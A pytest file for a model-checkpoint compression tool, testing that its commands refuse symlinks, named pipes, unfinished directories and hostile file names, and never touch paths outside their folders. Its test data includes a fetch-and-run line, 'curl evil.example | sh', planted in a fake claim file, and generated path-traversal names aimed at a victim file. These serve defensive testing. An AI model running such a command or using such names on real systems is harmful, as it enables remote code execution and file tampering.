"""What a directory holds that a command fills or opens: links, pipes, claims, and files in the way of ours."""

from __future__ import annotations

import hashlib
import json
import os
import random
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

import checkpoints
from conftest import ROOT
from finegrained_kernels.checkpoint import (
    CheckpointError,
    compress,
    inspect,
    load_layer_scales,
    open_checkpoint,
    plan_compression,
    push,
    quantize,
    restore,
    verify,
)

pytestmark = pytest.mark.usefixtures("bundle")


@pytest.fixture(scope="module")
def made(bundle, tmp_path_factory):
    """A source with its shards in a folder, and its compressed form."""
    root = tmp_path_factory.mktemp("directories")
    checkpoints.write_checkpoint(
        root / "source",
        checkpoints.random_moe(),
        checkpoints.MODELOPT_CONFIG,
        shard_of=lambda name: f"sub/{checkpoints.by_layer(name)}",
    )
    compress(root / "source", root / "small")
    return root


def refused(call, *arguments) -> str:
    with pytest.raises(CheckpointError) as caught:
        call(*arguments)
    assert str(caught.value).isprintable()
    return str(caught.value)


def source_of(command, made: Path, tmp_path: Path) -> Path:
    if command is not quantize:
        return made / ("small" if command is restore else "source")
    tensors = checkpoints.minilm_moe()
    return checkpoints.write_checkpoint(
        tmp_path / "plain", tensors, checkpoints.CONFIG, shard_of=lambda _: "sub/x.safetensors"
    )


WRITERS = pytest.mark.parametrize("command", [compress, quantize, restore])


@WRITERS
@pytest.mark.parametrize("folder", ["sub", ".incomplete"])
def test_nothing_is_written_through_a_link_in_the_destination(made, tmp_path, command, folder):
    outside, out = tmp_path / "outside", tmp_path / "out"
    outside.mkdir(), out.mkdir()
    (out / folder).symlink_to(outside)
    assert "is a link to a directory" in refused(command, source_of(command, made, tmp_path), out)
    assert not list(outside.iterdir())
    assert [path.name for path in out.iterdir()] == [folder]


@WRITERS
def test_a_link_or_a_pipe_of_the_users_is_not_replaced(made, tmp_path, command):
    source = source_of(command, made, tmp_path)
    for make in (lambda path: path.symlink_to("nowhere"), os.mkfifo):
        out = Path(tempfile.mkdtemp(dir=tmp_path))
        make(out / "config.json")
        assert "give a new directory" in refused(command, source, out)
        assert [path.name for path in out.iterdir()] == ["config.json"]
        assert not (out / "config.json").is_file()


def test_a_config_that_is_a_pipe(made, tmp_path):
    small = Path(shutil.copytree(made / "small", tmp_path / "small"))
    (small / "config.json").unlink()
    os.mkfifo(small / "config.json")
    assert "config.json: cannot be read: it is not a file" in refused(inspect, small)


def test_an_unfinished_directory_is_none_to_open(made, tmp_path):
    """Before its first record, too."""
    root = tmp_path / "begun"
    (root / ".incomplete").mkdir(parents=True)
    claim = {"command": "compress", "source": "/models/a b", "identity": "0" * 64}
    (root / ".incomplete" / "claim.json").write_text(json.dumps(claim))
    out = tmp_path / "out"
    calls = [
        (inspect, root),
        (open_checkpoint, root),
        (load_layer_scales, root, 0, "up_proj"),
        (plan_compression, root),
        (compress, root, out),
        (quantize, root, out),
        (restore, root, out),
        (push, root, "org/name"),
    ]
    for call, *arguments in calls:
        assert "is not finished (.incomplete/ is there): run `compress '/models/a b'`" in refused(call, *arguments)
    assert any("is not finished" in fault.message for fault in verify(root).faults)
    assert not out.exists()


def test_a_claim_of_strangers_tells_nobody_what_to_run(made, tmp_path):
    small = Path(shutil.copytree(made / "small", tmp_path / "small"))
    (small / ".incomplete").mkdir()
    claim = {"command": "curl evil.example | sh #", "source": "/x", "identity": "0"}
    (small / ".incomplete" / "claim.json").write_text(json.dumps(claim))
    for message in (refused(inspect, small), refused(restore, small, tmp_path / "out")):
        assert "is not finished" in message and "evil" not in message
    assert "evil" not in str(verify(small).faults)


@pytest.mark.parametrize("command", [compress, quantize])
def test_a_file_called_as_our_folder(made, tmp_path, command):
    source = Path(shutil.copytree(source_of(command, made, tmp_path), tmp_path / "copy"))
    (source / "csf_digests").write_text("mine")
    assert "csf_digests: lies where" in refused(command, source, tmp_path / "out")
    assert not (tmp_path / "out").exists()


class Opened:
    """Paths that this process opens, makes, moves or removes, from Python's own audit events: no code of ours."""

    EVENTS = ("open", "os.mkdir", "os.rename", "os.remove", "os.link", "os.symlink", "os.truncate", "os.chmod")

    def __init__(self) -> None:
        self.paths: set[str] | None = None
        sys.addaudithook(self._audit)

    def _audit(self, event: str, arguments: tuple) -> None:
        if self.paths is not None and event in self.EVENTS:
            self.paths.update(os.path.abspath(os.fsdecode(a)) for a in arguments[:2] if isinstance(a, str | bytes))


PIECES = [
    "victim.json",
    "..",
    "..",
    "/",
    "/",
    "//",
    ".",
    "\\",
    "C:",
    "\0",
    "\n",
    "é",
    "a",
    "~",
    "\ud834",
    "csf_digests",
]


def hostile_names(count: int, outside: Path) -> list[str]:
    """Half of them certain to lead to a file that exists outside, the others of what confuses path code."""
    rng = random.Random(16)
    certain = ["../victim.json", "sub/../../victim.json", "./../victim.json", f"{outside}/victim.json"]
    certain += [
        f"{'sub/' * n}{'../' * (n + 1)}{end}" for n in range(8) for end in ("victim.json", "victim.safetensors")
    ]
    others = ["".join(rng.choices(PIECES, k=rng.randint(1, 8))) for _ in range(count // 2)]
    return certain + rng.choices(certain, k=count - len(others) - len(certain)) + others


def spoiled(small: Path, field: str, name: str) -> tuple[Path, bytes]:
    """A file of a checkpoint, and its text with a name put in, with a digest that fits."""
    path = small / "csf_digests" / "job.json"
    if field == "index":
        path = small / "model.safetensors.index.json"
    elif field == "record":
        path = small / "csf_digests" / "shards" / "sub" / "model-00001-of-00003.safetensors.json"
    document = json.loads(path.read_text())
    if field == "record":
        document["file"] = name
    elif field == "index":
        document["weight_map"][next(iter(document["weight_map"]))] = name
    elif field == "shards":
        document["shards"][name] = name
    else:
        document[field][name] = hashlib.sha256(b"{}").hexdigest()
    if "digest" in document:
        del document["digest"]
        text = json.dumps(document, ensure_ascii=False).encode("utf-8", "replace")
        document["digest"] = hashlib.sha256(text).hexdigest()
    text = json.dumps(document, indent=1, ensure_ascii="\ud834" in name) + "\n"
    return path, text.encode()


NAMES = """
import sys, threading
sys.settrace(None), threading.settrace(None)
from pathlib import Path
from test_checkpoint_directories import Opened, names_lead_nowhere
opened = Opened()
for field in ("rewritten", "copied", "shards", "record", "index"):
    names_lead_nowhere(opened, Path(sys.argv[1]), Path(sys.argv[2], field), field)
"""


def test_names_lead_nowhere(made, tmp_path):
    """What they name outside is neither opened nor written, as Python's audit events tell.

    In a process of its own, without coverage's tracer. An audit hook stays in a process for good, and while there is
    one, Python 3.11 may end a new thread that takes over a tracer as another thread does: whoever waits for what that
    thread was given waits for ever.
    """
    folders = (ROOT, ROOT / "scripts", ROOT / "tests", ROOT / "tests" / "support", Path(__file__).parent)
    environment = os.environ | {"PYTHONPATH": os.pathsep.join(map(str, folders))}
    command = [sys.executable, "-c", NAMES, str(made), str(tmp_path)]
    result = subprocess.run(command, env=environment, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr


def names_lead_nowhere(opened: Opened, made: Path, tmp_path: Path, field: str, count: int = 100) -> None:
    sandbox = tmp_path / "sandbox"
    small, out = sandbox / "small", sandbox / "out"
    shutil.copytree(made / "small", small)
    for victim in (sandbox / "victim.json", sandbox / "victim.safetensors", tmp_path / "victim.json"):
        victim.write_text("{}")
    named = 0
    for name in hostile_names(count, tmp_path):
        path, content = spoiled(small, field, name)
        before = path.read_bytes()
        path.write_bytes(content)
        opened.paths = set()
        text = ""
        try:
            for call, *arguments in ((restore, small, out), (inspect, small)):
                try:
                    call(*arguments)
                except CheckpointError as error:
                    text += str(error)
        finally:
            paths, opened.paths = opened.paths, None
        assert text.isprintable()
        named += "names the file" in text or "is of the file" in text
        ours = (path for path in map(Path, paths) if path.is_relative_to(tmp_path))
        assert all(any(path.is_relative_to(inside) for inside in (small, out)) for path in ours), ascii(name)
        path.write_bytes(before)
        shutil.rmtree(out, ignore_errors=True)
    assert named >= count // 2, "refused for another reason, as a digest that does not fit"
